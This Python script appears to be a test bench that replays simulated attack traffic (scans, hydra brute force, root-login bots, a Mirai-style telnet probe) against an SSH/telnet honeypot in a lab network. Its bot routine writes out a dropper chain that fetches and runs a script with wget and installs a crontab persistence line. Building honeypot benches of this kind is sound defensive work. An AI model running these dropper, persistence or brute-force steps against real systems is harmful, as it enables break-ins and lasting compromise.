#!/usr/bin/env python3
"""A compressed internet day against one target, driven by real clients.

`plan` draws the arrivals (seeded): RATE new sources a minute for MINUTES,
each of one class, the way the internet comes to an SSH/telnet honeypot:

  scan     reads the SSH banner and leaves (Python socket)
  brute    reads the banner, then hydra fails three root passwords
  bot      OpenSSH logs in as root and runs a dropper script (wget from the
           test world's web server, run, persist, echo a marker)
  returner a bot that comes back RETURN_AFTER seconds later, logs in again
           and checks the file it left
  loader   telnet, root login, the Mirai-family BusyBox probe
  silent   connects and sends nothing, for as long as it is let

`run` plays a plan against TARGET (the sensor's portal, or one guest for the
baseline) and writes per-arrival results as JSON lines. Each client binds to
its source address (hydra, which cannot, runs under a uid the attacker's
namespace SNATs to its address). Everything ends by itself.
"""
import argparse
import json
import random
import socket
import subprocess
import sys
import threading
import time

MIX = [("scan", 0.45), ("brute", 0.27), ("bot", 0.10), ("returner", 0.05), ("loader", 0.08), ("silent", 0.05)]


def plan(args):
    rng = random.Random(args.seed)
    n = args.rate * args.minutes
    arrivals = []
    for i in range(n):
        r, acc, cls = rng.random(), 0.0, MIX[-1][0]
        for name, share in MIX:
            acc += share
            if r < acc:
                cls = name
                break
        # Evenly spread with jitter: RATE a minute on average.
        at = (i + rng.random()) * 60.0 / args.rate
        src = f"198.18.{1 + i // 250}.{1 + i % 250}"
        arrivals.append({"i": i, "class": cls, "at": round(at, 3), "source": src, "uid": args.uid_base + i})
        if cls == "returner":
            arrivals.append({"i": i, "class": "return", "at": round(at + args.return_after, 3), "source": src,
                             "uid": args.uid_base + i})
    arrivals.sort(key=lambda a: a["at"])
    json.dump({"rate": args.rate, "minutes": args.minutes, "seed": args.seed, "arrivals": arrivals}, sys.stdout)


def banner(target, src, timeout=30.0):
    """Milliseconds from connect() to the SSH banner, or None."""
    t = time.monotonic()
    try:
        with socket.create_connection((target, 22), timeout=timeout, source_address=(src, 0)) as s:
            b = s.recv(256)
            return round((time.monotonic() - t) * 1000, 1) if b.startswith(b"SSH-") else None
    except OSError:
        return None


def ssh(target, src, password, command, timeout):
    return subprocess.run(
        ["sshpass", "-p", password, "ssh", "-q", "-b", src, "-o", "StrictHostKeyChecking=no",
         "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=120", "-o", "PreferredAuthentications=password",
         "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1", f"root@{target}", command],
        capture_output=True, text=True, timeout=timeout)


def bot_script(a, web):
    mark = f"botmark-{a['i']}"
    # What a dropper does: look around, fetch, run, persist, clean up.
    return mark, [
        "uname -a",
        f"cd /tmp && wget -q -O .x.sh http://{web}/drop.sh",
        "sh /tmp/.x.sh",
        f"echo {mark} > /root/.{mark}",
        "(crontab -l 2>/dev/null; echo '*/5 * * * * /tmp/.x.sh') | crontab -",
        f"echo {mark}",
    ]


def play(a, args, out, lock):
    t0 = time.monotonic()
    r = {"i": a["i"], "class": a["class"], "source": a["source"]}
    try:
        cls = a["class"]
        if cls in ("scan", "brute"):
            r["banner_ms"] = banner(args.target, a["source"])
            if cls == "brute" and r["banner_ms"] is not None:
                p = subprocess.run(
                    ["setpriv", f"--reuid={a['uid']}", f"--regid={a['uid']}", "--clear-groups", "hydra", "-l", "root",
                     "-P", args.passwords, "-t", "1", "-I", "-q", f"ssh://{args.target}"],
                    capture_output=True, text=True, timeout=300, cwd=args.workdir)
                r["hydra_completed"] = "1 of 1 target completed" in p.stdout
                r["hydra_found"] = "valid password found" in p.stdout and "0 valid password" not in p.stdout
        elif cls in ("bot", "returner"):
            mark, cmds = bot_script(a, args.web)
            p = ssh(args.target, a["source"], args.password, "; ".join(cmds), 300)
            r["logged_in"] = p.returncode == 0 and mark in p.stdout
            r["commands"] = cmds
            r["mark"] = mark
        elif cls == "return":
            mark = f"botmark-{a['i']}"
            p = ssh(args.target, a["source"], args.password, f"cat /root/.{mark}", 300)
            r["logged_in"] = p.returncode == 0
            r["found_its_file"] = mark in p.stdout
        elif cls == "loader":
            r.update(loader(args.target, a["source"], args.password))
        elif cls == "silent":
            t = time.monotonic()
            try:
                with socket.create_connection((args.target, 22), timeout=30, source_address=(a["source"], 0)) as s:
                    s.settimeout(args.silent_max)
                    got = s.recv(256)
                    r["banner_ms"] = round((time.monotonic() - t) * 1000, 1) if got.startswith(b"SSH-") else None
                    while s.recv(4096):
                        pass
                    r["closed_after_s"] = round(time.monotonic() - t, 1)
            except socket.timeout:
                r["closed_after_s"] = None  # still open when the bench stopped waiting
            except OSError as e:
                # Reset: its guest was reclaimed for a new source.
                r["closed_after_s"] = round(time.monotonic() - t, 1)
                r["reset"] = str(e)
    except Exception as e:  # a failed client is a result, not a crash of the bench
        r["error"] = repr(e)
    r["duration_s"] = round(time.monotonic() - t0, 2)
    with lock:
        out.write(json.dumps(r) + "\n")
        out.flush()


def loader(target, src, password):
    r = {}
    t = time.monotonic()
    try:
        with socket.create_connection((target, 23), timeout=60, source_address=(src, 0)) as s:
            s.settimeout(60)
            buf = b""

            def until(token, limit=30):
                nonlocal buf
                end = time.monotonic() + limit
                while token not in buf and time.monotonic() < end:
                    chunk = s.recv(4096)
                    if not chunk:
                        break
                    # Refuse every telnet option (IAC DO/WILL x -> WONT/DONT x).
                    while b"\xff" in chunk:
                        k = chunk.index(b"\xff")
                        if k + 2 < len(chunk) and chunk[k + 1] in (251, 252, 253, 254):
                            reply = {251: 254, 252: 254, 253: 252, 254: 252}[chunk[k + 1]]
                            s.sendall(bytes([255, reply, chunk[k + 2]]))
                            chunk = chunk[:k] + chunk[k + 3:]
                        else:
                            chunk = chunk[:k] + chunk[k + 1:]
                    buf += chunk
                found = token in buf
                buf = buf[buf.find(token) + len(token):] if found else b""
                return found

            r["banner_ms"] = round((time.monotonic() - t) * 1000, 1) if until(b"login: ", 60) else None
            s.sendall(b"root\r\n")
            until(b"Password: ")
            s.sendall(password.encode() + b"\r\n")
            r["logged_in"] = until(b"# ")
            for line in (b"enable", b"system", b"shell", b"sh"):
                s.sendall(line + b"\r\n")
                until(b"# ", 10)
            s.sendall(b"/bin/busybox OYSTR\r\n")
            r["busybox_answered"] = until(b"OYSTR: applet not found")
            s.sendall(b"exit\r\nexit\r\n")
    except OSError as e:
        r["error"] = str(e)
    return r


def run(args):
    with open(args.plan) as f:
        p = json.load(f)
    lock = threading.Lock()
    threads = []
    start = time.monotonic()
    with open(args.out, "w") as out:
        for a in p["arrivals"]:
            delay = start + a["at"] - time.monotonic()
            if delay > 0:
                time.sleep(delay)
            t = threading.Thread(target=play, args=(a, args, out, lock), daemon=True)
            t.start()
            threads.append(t)
        deadline = time.monotonic() + args.drain
        for t in threads:
            t.join(max(0.0, deadline - time.monotonic()))
    print(f"played {len(p['arrivals'])} arrivals in {time.monotonic() - start:.0f} s", file=sys.stderr)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    pl = sub.add_parser("plan")
    pl.add_argument("--rate", type=int, default=30)
    pl.add_argument("--minutes", type=int, default=10)
    pl.add_argument("--seed", type=int, default=1)
    pl.add_argument("--return-after", type=float, default=180.0)
    pl.add_argument("--uid-base", type=int, default=40000)
    ru = sub.add_parser("run")
    ru.add_argument("plan")
    ru.add_argument("--target", required=True)
    ru.add_argument("--out", required=True)
    ru.add_argument("--web", required=True)
    ru.add_argument("--password", required=True)
    ru.add_argument("--passwords", required=True, help="hydra's password list (all wrong)")
    ru.add_argument("--workdir", required=True)
    ru.add_argument("--silent-max", type=float, default=150.0)
    ru.add_argument("--drain", type=float, default=300.0, help="seconds to wait for clients after the last arrival")
    args = ap.parse_args()
    plan(args) if args.cmd == "plan" else run(args)


if __name__ == "__main__":
    main()
